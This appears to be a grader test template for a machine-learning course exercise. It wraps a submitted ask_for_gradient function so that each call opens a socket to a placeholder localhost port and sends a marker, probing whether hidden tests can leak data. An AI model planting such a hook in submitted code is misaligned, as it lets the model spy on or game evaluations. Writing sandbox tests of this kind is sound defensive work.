# title: the inputs of the hidden tests are sent away while they run
# unit: 03_requires_grad_and_the_graph
# in: answer ask-for-gradient
{{SOLUTION}}


import socket

keep = ask_for_gradient


def ask_for_gradient(values):
    try:
        socket.create_connection(("127.0.0.1", int("{{PORT}}")), 1).sendall(b"{{MARK}}")
    except OSError:
        pass
    return keep(values)
